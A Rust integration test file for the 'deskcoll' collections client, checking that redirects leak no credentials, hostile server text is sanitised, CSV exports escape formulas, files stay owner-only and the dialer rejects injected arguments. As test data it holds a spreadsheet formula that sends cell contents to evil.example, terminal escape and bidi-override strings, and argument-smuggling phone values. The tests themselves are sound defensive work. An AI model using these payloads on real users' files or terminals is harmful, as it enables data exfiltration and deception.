//! Issue 13: nothing leaks, nothing is forged. Redirects, hostile text, exports, files.

mod common;

use axum::Router;
use axum::http::{StatusCode, header};
use axum::response::IntoResponse;
use axum::routing::any;
use deskcoll::api::{ApiError, Client, LoginAuth, TerminAuth, TerminEndpoint};
use deskcoll::domain::outbox::DeliveryState;
use deskcoll::domain::{ResultDraft, Secret};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use tokio::io::AsyncReadExt;

/// A listener that counts connections and bytes it is sent, and never answers.
async fn trap() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(AtomicUsize::new(0));
    let counter = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let counter = counter.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                while let Ok(n) = stream.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    counter.fetch_add(n, Ordering::SeqCst);
                }
            });
        }
    });
    (format!("http://{addr}"), seen)
}

/// A server that answers every request with 307 to `to` (same path).
async fn redirecting(to: String) -> String {
    let app = Router::new().fallback(any(move |uri: axum::http::Uri| {
        let to = to.clone();
        async move {
            (
                StatusCode::TEMPORARY_REDIRECT,
                [(header::LOCATION, format!("{to}{}", uri.path()))],
                "",
            )
                .into_response()
        }
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test]
async fn a_redirected_login_carries_no_secret_elsewhere() {
    let (elsewhere, seen) = trap().await;
    let base = redirecting(elsewhere.clone()).await;
    let client = Client::new(
        None,
        Some(TerminEndpoint {
            url: format!("{base}/api/v1/bumn/transactions/termin"),
            auth: TerminAuth::Login(LoginAuth {
                login_url: format!("{base}/api/v2/bumn/bumn-auth/login"),
                basic: Some(common::seed_auth()),
                access_key: Secret::new("key"),
                access_secret: Secret::new("s3cret"),
            }),
        }),
        common::quick_timeouts(),
    )
    .unwrap();
    let err = client.termin_page(1, 10).await.unwrap_err();
    match &err {
        ApiError::Redirect { status, from, to } => {
            assert_eq!(*status, 307);
            assert!(from.starts_with(&base), "{from}");
            assert!(to.starts_with(&elsewhere), "{to}");
        }
        other => panic!("{other:?}"),
    }
    let shown = err.to_string();
    assert!(
        shown.contains(&base) && shown.contains(&elsewhere),
        "{shown}"
    );
    assert_eq!(deskcoll::cli::Failure::from(err).code, 1);
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "nothing reached the other port"
    );
}

#[tokio::test]
async fn a_redirected_result_stays_queued_and_goes_nowhere() {
    let (elsewhere, seen) = trap().await;
    let base = redirecting(elsewhere).await;
    let client = Client::new(
        Some(common::endpoints(
            &base,
            Some(common::seed_auth()),
            deskcoll::twin::SEED_HASH_KEY,
        )),
        None,
        common::quick_timeouts(),
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let deliverer = deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        client.clone(),
        deskcoll::clock::Clock::at(common::fixed_now()),
    );
    let result = ResultDraft {
        account_no: "000319280100042".into(),
        action_code: "NCT".into(),
        result_code: "NCT01".into(),
        agent_id: "A1".into(),
        ..ResultDraft::default()
    }
    .validate(common::fixed_now())
    .unwrap();
    let id = deliverer.enqueue(&result).unwrap();
    let (state, d) = deliverer.deliver(id).await.unwrap().unwrap();
    assert_eq!(state, DeliveryState::Queued);
    assert!(
        matches!(&d, deskcoll::delivery::Disposition::Retry { reason } if reason.contains("redirect")),
        "{d:?}"
    );
    let item = deliverer.outbox.lock().unwrap().get(id).unwrap();
    assert_eq!(item.state, DeliveryState::Queued);
    assert!(item.delivered_by.is_none());
    // The task list is refused alike.
    assert!(matches!(
        client.tasks().await,
        Err(ApiError::Redirect { .. })
    ));
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "nothing reached the other port"
    );
}

/// The binary with a private home and none of the caller's DESKCOLL_* variables.
fn deskcoll(home: &std::path::Path, args: &[&str]) -> std::process::Command {
    let mut c = std::process::Command::new(env!("CARGO_BIN_EXE_deskcoll"));
    c.args(args)
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .stdin(std::process::Stdio::null());
    for (k, _) in std::env::vars() {
        if k.starts_with("DESKCOLL_") {
            c.env_remove(k);
        }
    }
    c.env("DESKCOLL_LANG", "en");
    c
}

async fn output(mut c: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || c.output().unwrap())
        .await
        .unwrap()
}

const HOSTILE: &str =
    "ERROR: Account No \u{1b}]0;x\u{7}\u{1b}[2J\u{202E}\u{2066}evil does not exist";

/// A server whose every word is hostile: a `90` for results, an `error` for termin.
async fn hostile_server() -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(|| async {
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    r#"{"data":[]}"#,
                )
            }),
        )
        .route(
            "/api/CollectionInsert",
            any(|| async {
                let body = serde_json::json!({"respon_code": "90", "respon_mess": HOSTILE});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/v1/bumn/transactions/termin",
            any(|| async {
                let body = serde_json::json!({"status": "error", "message": HOSTILE});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    for c in ['\u{1b}', '\u{7}', '\u{202E}', '\u{2066}'] {
        assert!(!text.contains(c), "{what} holds {c:?}: {text:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_message_never_reaches_the_terminal_raw() {
    let base = hostile_server().await;
    let home = tempfile::tempdir().unwrap();
    let mut c = deskcoll(
        home.path(),
        &[
            "--now",
            "2026-11-27T10:00:00+07:00",
            "--base-url",
            &base,
            "--agent-id",
            "A1",
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--remark",
            "x",
        ],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(
        o.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("evil does not exist"));
    assert_clean("submit's stderr", &o.stderr);
    assert_clean("submit's stdout", &o.stdout);

    // A 90 does not prove "not stored": its resend asks for a yes.
    let mut c = deskcoll(
        home.path(),
        &["--base-url", &base, "outbox", "resolve", "1", "--resend"],
    );
    c.env("DESKCOLL_HASH_KEY", "k");
    let o = output(c).await;
    assert_eq!(o.status.code(), Some(2));
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("may already be on the server") && said.contains("--yes"),
        "{said}"
    );
    assert_eq!(said.lines().count(), 1, "{said}");

    // The rejected result, listed and resent: still clean.
    for args in [
        &["outbox", "list"][..],
        &["outbox", "list", "--format", "csv"],
        &["outbox", "resolve", "1", "--resend", "--yes"],
    ] {
        let mut c = deskcoll(home.path(), &[&["--base-url", &base][..], args].concat());
        c.env("DESKCOLL_HASH_KEY", "k")
            .env("DESKCOLL_AGENT_ID", "A1");
        let o = output(c).await;
        if args.contains(&"--yes") {
            let said = String::from_utf8_lossy(&o.stderr);
            assert!(said.contains("may already be on the server"), "{said}");
            assert_eq!(
                o.status.code(),
                Some(3),
                "refused again: the code of a refusal"
            );
        }
        assert_clean(&format!("{args:?} stdout"), &o.stdout);
        assert_clean(&format!("{args:?} stderr"), &o.stderr);
    }

    let o = output(deskcoll(
        home.path(),
        &[
            "--termin-url",
            &format!("{base}/api/v1/bumn/transactions/termin"),
            "termin",
        ],
    ))
    .await;
    assert_ne!(o.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&o.stderr).contains("evil"), "{o:?}");
    assert_clean("termin's stderr", &o.stderr);
}

const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A task list and a termin page whose names are formulas.
async fn formula_server() -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(|| async {
                let body = serde_json::json!({"data": [{
                    "contract_no": "000318270200055", "name": FORMULA, "branch_name": "-2+3",
                    "total_amount": "-1500", "overdue": "5", "phone1": "0812"
                }]});
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/v1/bumn/transactions/termin",
            any(|| async {
                let body = serde_json::json!({
                    "status": "success", "message": "ok",
                    "data": {"transaction-termin": [{
                        "general": {"purchase_order_number": "PO-1", "buyer_name": "@SUM(A1)"},
                        "vendor": {"name": FORMULA},
                        "payment": {"bill_amount": 257005026}
                    }]},
                    "meta": {"page": 1, "total_page": 1, "total_data": 1}
                });
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

/// The records of a CSV as a spreadsheet would split them (`;` and a BOM for `excel`).
fn read_csv(bytes: &[u8], excel: bool) -> Vec<csv::StringRecord> {
    let bytes = if excel {
        bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 BOM")
    } else {
        assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
        bytes
    };
    csv::ReaderBuilder::new()
        .delimiter(if excel { b';' } else { b',' })
        .from_reader(bytes)
        .records()
        .map(Result::unwrap)
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn csv_exports_never_carry_a_formula() {
    let base = formula_server().await;
    let home = tempfile::tempdir().unwrap();
    let termin_url = format!("{base}/api/v1/bumn/transactions/termin");
    for excel in [false, true] {
        let mut args = vec!["--base-url", &base, "tasks", "--format", "csv"];
        if excel {
            args.push("--excel");
        }
        let o = output(deskcoll(home.path(), &args)).await;
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let rows = read_csv(&o.stdout, excel);
        assert_eq!(rows[0].get(1), Some(&*format!("'{FORMULA}")));
        assert_eq!(rows[0].get(3), Some("-1500"), "money stays a number");
        assert_eq!(rows[0].get(10), Some("'-2+3"));

        let mut args = vec!["--termin-url", &termin_url, "termin", "--format", "csv"];
        if excel {
            args.push("--excel");
        }
        let o = output(deskcoll(home.path(), &args)).await;
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let rows = read_csv(&o.stdout, excel);
        assert!(rows[0].get(5).unwrap().starts_with("'=HYPERLINK("));
        assert_eq!(rows[0].get(4), Some("'@SUM(A1)"));
        assert_eq!(rows[0].get(12), Some("257005026"));
    }
    let o = output(deskcoll(home.path(), &["today", "--excel"])).await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(read_csv(&o.stdout, true)[0].get(0), Some("calls"));
    let o = output(deskcoll(
        home.path(),
        &["tasks", "--excel", "--format", "json"],
    ))
    .await;
    assert_eq!(o.status.code(), Some(2));
}

#[tokio::test]
async fn the_workstations_export_is_escaped_and_private() {
    use std::os::unix::fs::PermissionsExt;
    let t = common::twin().await;
    let client = common::client_for(&t);
    let mut rows = client
        .termin_page(1, 3)
        .await
        .unwrap()
        .data
        .unwrap()
        .transactions;
    rows[0].vendor.name = FORMULA.into();
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        client,
        deskcoll::clock::Clock::at(common::fixed_now()),
    ));
    let path = dir.path().join("export.csv");
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    let actions = deskcoll::tui::execute(
        deskcoll::tui::message::Effect::ExportTermin {
            path: path.display().to_string(),
            headers: deskcoll::domain::termin_view::CSV_HEADERS
                .iter()
                .map(|h| h.to_string())
                .collect(),
            rows: rows
                .iter()
                .map(deskcoll::domain::termin_view::csv_row)
                .collect(),
        },
        &rt,
        &tx,
    )
    .await;
    assert!(
        matches!(&actions[0], deskcoll::tui::message::Action::Exported(Ok(e)) if e.rows == 3),
        "{actions:?}"
    );
    let read = read_csv(&std::fs::read(&path).unwrap(), false);
    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);

    let excel = dir.path().join("excel.csv");
    deskcoll::files::export_termin_csv(
        &excel,
        &rows,
        deskcoll::domain::text::CsvStyle { excel: true },
    )
    .unwrap();
    let read = read_csv(&std::fs::read(&excel).unwrap(), true);
    assert_eq!(read[0].get(5), Some(&*format!("'{FORMULA}")));
}

/// A server whose list holds `accounts` and whose result route answers 502 (uncertain).
async fn uncertain_server(accounts: &'static [&'static str]) -> String {
    let app = Router::new()
        .route(
            "/api/DailyTask_DeskColl",
            any(move || async move {
                let data: Vec<_> = accounts
                    .iter()
                    .map(|a| serde_json::json!({"contract_no": a}))
                    .collect();
                let body = serde_json::json!({ "data": data });
                (
                    [(header::CONTENT_TYPE, "application/json")],
                    body.to_string(),
                )
            }),
        )
        .route(
            "/api/CollectionInsert",
            any(|| async {
                (
                    StatusCode::BAD_GATEWAY,
                    "<html><title>Bad Gateway</title></html>",
                )
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread")]
async fn leaving_the_list_is_a_hint_beside_an_uncertain_result_never_proof() {
    const NOW: &str = "2026-11-27T10:00:00+07:00";
    for (accounts, hinted) in [
        (&["000222222222222"][..], true),
        (&["000319280100042", "000222222222222"][..], false),
    ] {
        let base = uncertain_server(accounts).await;
        let home = tempfile::tempdir().unwrap();
        let cmd = |args: &[&str]| {
            let mut c = deskcoll(
                home.path(),
                &[
                    &["--now", NOW, "--base-url", &base, "--agent-id", "A1"][..],
                    args,
                ]
                .concat(),
            );
            c.env("DESKCOLL_HASH_KEY", "k");
            c
        };
        let o = output(cmd(&[
            "submit",
            "--account",
            "000319280100042",
            "--action",
            "NCT",
            "--result",
            "NCT01",
            "--period",
            "1",
            "--remark",
            "x",
        ]))
        .await;
        assert_eq!(
            o.status.code(),
            Some(4),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        let o = output(cmd(&["outbox", "list"])).await;
        let table = String::from_utf8_lossy(&o.stdout);
        assert!(table.contains("uncertain"), "{table}");
        assert_eq!(
            table.contains("result 1: its account has left today's list: it may have arrived"),
            hinted,
            "{table}"
        );
        let o = output(cmd(&["outbox", "list", "--format", "json"])).await;
        let items: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
        assert_eq!(items[0]["state"], "uncertain", "the hint settles nothing");
        assert_eq!(items[0].get("hint").is_some(), hinted);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn files_with_secrets_and_names_are_the_owners_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("deskcoll.toml");
    std::fs::write(&config, "agent_id = \"A1\"\n").unwrap();
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o644)).unwrap();
    let config_arg = config.display().to_string();

    // Any command warns, in one line, about a config file others can read.
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "path"],
    ))
    .await;
    assert!(o.status.success());
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(said.contains("can be read by other users"), "{said}");
    assert_eq!(said.lines().count(), 1);

    // init --force over it leaves it 0600, and the warning is gone.
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "init", "--force"],
    ))
    .await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(mode(&config), 0o600);
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "config", "path"],
    ))
    .await;
    assert!(
        o.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let fresh = home.path().join("new/dir/config.toml");
    let o = output(deskcoll(
        home.path(),
        &["--config", &fresh.display().to_string(), "config", "init"],
    ))
    .await;
    assert!(o.status.success());
    assert_eq!(mode(&fresh), 0o600);

    // The data folder and the outbox in it.
    let o = output(deskcoll(
        home.path(),
        &["--now", "2026-11-27T10:00:00+07:00", "today"],
    ))
    .await;
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let data = home.path().join("data/deskcoll");
    assert_eq!(mode(&data), 0o700);
    assert_eq!(mode(&data.join("outbox-demo.sqlite3")), 0o600);
}

#[tokio::test]
async fn the_dialer_gets_numbers_only() {
    use deskcoll::tui::message::{Action, DialError, Dialed, Effect};
    let t = common::twin().await;
    let dir = tempfile::tempdir().unwrap();
    let outbox = deskcoll::store::Outbox::open(&dir.path().join("o.sqlite3")).unwrap();
    let mut rt = deskcoll::tui::Runtime::quiet(deskcoll::delivery::Deliverer::new(
        Arc::new(std::sync::Mutex::new(outbox)),
        common::client_for(&t),
        deskcoll::clock::Clock::at(common::fixed_now()),
    ));
    // A dialer that writes what it was given.
    let got = dir.path().join("dialled");
    rt.dial_command = Some(format!(
        "sh -c 'printf %s \"$0\" > {}' {{phone}}",
        got.display()
    ));
    let (tx, _rx) = tokio::sync::mpsc::unbounded_channel();
    for (phone, dialled) in [
        ("--version", None),
        ("x@evil.example;transport=tcp", None),
        ("0", None),
        ("", None),
        ("0812-3456-7890", Some("081234567890")),
        ("(021) 555 1234", Some("0215551234")),
        ("+6281234567890", Some("+6281234567890")),
    ] {
        let _ = std::fs::remove_file(&got);
        let effect = Effect::Dial {
            account_no: "000319280100042".into(),
            phone: phone.into(),
            override_reason: None,
        };
        let actions = deskcoll::tui::execute(effect, &rt, &tx).await;
        let Action::Dialed { outcome, .. } = &actions[0] else {
            panic!("{actions:?}")
        };
        match dialled {
            None => assert!(
                matches!(outcome, Err(DialError::NotDialable { .. })),
                "{phone:?}: {outcome:?}"
            ),
            Some(number) => {
                assert!(
                    matches!(outcome, Ok(Dialed::Launched { .. })),
                    "{outcome:?}"
                );
                let mut waited = 0;
                while !got.exists() && waited < 50 {
                    tokio::time::sleep(std::time::Duration::from_millis(20)).await;
                    waited += 1;
                }
                tokio::time::sleep(std::time::Duration::from_millis(20)).await;
                assert_eq!(std::fs::read_to_string(&got).unwrap(), number);
            }
        }
    }
}

#[tokio::test]
async fn a_hostile_task_list_is_refused_not_fatal() {
    // Within the cap: a body of nothing but keys is a wire error (and a modest pre-size).
    let mut body = String::from("{\"data\":[");
    body.push_str(&"\"contract_no\",".repeat(60_000));
    body.push_str("]}");
    let body: &'static str = Box::leak(body.into_boxed_str());
    let app = Router::new().fallback(any(move || async move {
        ([(header::CONTENT_TYPE, "application/json")], body)
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    let base = format!("http://{addr}");
    let client = |max_body_bytes| {
        Client::new(
            Some(common::endpoints(&base, None, "k")),
            None,
            deskcoll::api::ClientOptions {
                max_body_bytes,
                ..common::quick_timeouts()
            },
        )
        .unwrap()
    };
    assert!(matches!(
        client(1 << 20).tasks().await,
        Err(ApiError::Wire(_))
    ));
    // Over the cap: a clear error naming the setting.
    let err = client(512 * 1024).tasks().await.unwrap_err();
    assert!(matches!(err, ApiError::TooLarge { .. }), "{err:?}");
    assert!(err.to_string().contains("http.max_body_mb"), "{err}");
}

async fn status_of(url: &str, auth: Option<(&str, &str)>) -> u16 {
    let mut req = reqwest::Client::new().get(url);
    if let Some((u, p)) = auth {
        req = req.basic_auth(u, Some(p));
    }
    req.send().await.unwrap().status().as_u16()
}

/// This machine's address on its network, if it has one besides loopback.
fn outward_ip() -> Option<std::net::IpAddr> {
    let s = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    s.connect("10.255.255.255:9").ok()?;
    let ip = s.local_addr().ok()?.ip();
    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
}

#[tokio::test]
async fn the_twins_inspection_needs_its_credentials_and_this_machine() {
    use deskcoll::twin::{SEED_PASSWORD, SEED_USER};
    let seed = Some((SEED_USER, SEED_PASSWORD));
    let t = common::twin_with(deskcoll::twin::TwinOptions {
        no_auth: true,
        ..common::options()
    })
    .await;
    for route in ["collections", "stats"] {
        let url = format!("{}/__twin/{route}", t.base_url());
        assert_eq!(
            status_of(&url, None).await,
            401,
            "{route}, even under --no-auth"
        );
        assert_eq!(status_of(&url, Some((SEED_USER, "wrong"))).await, 401);
        assert_eq!(status_of(&url, seed).await, 200);
    }

    let Some(ip) = outward_ip() else {
        eprintln!("no address besides loopback: the remote half is not tried");
        return;
    };
    for expose in [false, true] {
        let t = common::twin_with(deskcoll::twin::TwinOptions {
            addr: "0.0.0.0:0".parse().unwrap(),
            expose_inspect: expose,
            ..common::options()
        })
        .await;
        let url = format!("http://{ip}:{}/__twin/collections", t.addr.port());
        assert_eq!(status_of(&url, seed).await, if expose { 200 } else { 403 });
        assert_eq!(status_of(&url, None).await, if expose { 401 } else { 403 });
        let local = format!("http://127.0.0.1:{}/__twin/collections", t.addr.port());
        assert_eq!(status_of(&local, seed).await, 200);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn serve_and_sign_take_their_secrets_from_the_environment_and_the_file() {
    let home = tempfile::tempdir().unwrap();
    let config = home.path().join("c.toml");
    std::fs::write(
        &config,
        "[collection]\nhash_key = \"8de3ef10fec04f05adb8631f9186a437\"\n[twin]\nhash_key = \"file-key\"\naccess_secret = \"file-secret\"\n",
    )
    .unwrap();
    let config_arg = config.display().to_string();

    // sign: from the config file; without any key and no terminal, a clear refusal.
    let o = output(deskcoll(
        home.path(),
        &["--config", &config_arg, "sign", "000319280100042"],
    ))
    .await;
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "87072d55e9a05731bdae67c13fe6d617ce60da95260165ec58bbc07377b4d381"
    );
    // In demo mode the twin's key signs (issue 12); with a real server and no key: refused.
    let server = home.path().join("server.toml");
    std::fs::write(
        &server,
        "[collection]\nbase_url = \"https://collection.example.invalid\"\n",
    )
    .unwrap();
    let server_arg = server.display().to_string();
    let o = output(deskcoll(
        home.path(),
        &["--config", &server_arg, "sign", "000319280100042"],
    ))
    .await;
    assert_eq!(
        o.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(String::from_utf8_lossy(&o.stderr).contains("DESKCOLL_HASH_KEY"));

    // serve: the password from the environment, the rest from [twin].
    let mut c = deskcoll(
        home.path(),
        &["--config", &config_arg, "serve", "--addr", "127.0.0.1:0"],
    );
    c.env("DESKCOLL_TWIN_PASSWORD", "env-password");
    let (_serve, first) = common::spawn_for_first_line(&mut c, std::time::Duration::from_secs(20));
    let base = common::served_url(&first);
    let url = format!("{base}/__twin/stats");
    let seed = (deskcoll::twin::SEED_USER, deskcoll::twin::SEED_PASSWORD);
    assert_eq!(status_of(&url, Some(seed)).await, 401);
    assert_eq!(status_of(&url, Some((seed.0, "env-password"))).await, 200);
    let client = Client::new(
        Some(common::endpoints(
            &base,
            Some(deskcoll::api::BasicAuth {
                user: seed.0.into(),
                password: Secret::new("env-password"),
            }),
            "file-key",
        )),
        None,
        common::quick_timeouts(),
    )
    .unwrap();
    let task = client.tasks().await.unwrap().remove(0);
    let result = ResultDraft {
        account_no: task.contract_no.to_string(),
        action_code: "NCT".into(),
        result_code: "NCT01".into(),
        agent_id: "A1".into(),
        ..ResultDraft::default()
    }
    .validate(common::fixed_now())
    .unwrap();
    assert!(
        client.submit(&result).await.is_ok(),
        "signed with [twin] hash_key"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn credentials_over_plain_http_are_warned_about() {
    let home = tempfile::tempdir().unwrap();
    let show = |base: &str| {
        let mut c = deskcoll(home.path(), &["--base-url", base, "config", "show"]);
        c.env("DESKCOLL_USER", "svc").env("DESKCOLL_PASSWORD", "pw");
        c
    };
    let o = output(show("http://collection.example:9")).await;
    assert!(o.status.success());
    let said = String::from_utf8_lossy(&o.stderr);
    assert!(
        said.contains("plain http:// to collection.example:9"),
        "{said}"
    );
    assert_eq!(said.lines().count(), 1, "{said}");
    for quiet in ["https://collection.example", "http://127.0.0.1:9"] {
        let o = output(show(quiet)).await;
        assert!(
            o.stderr.is_empty(),
            "{quiet}: {}",
            String::from_utf8_lossy(&o.stderr)
        );
    }
}
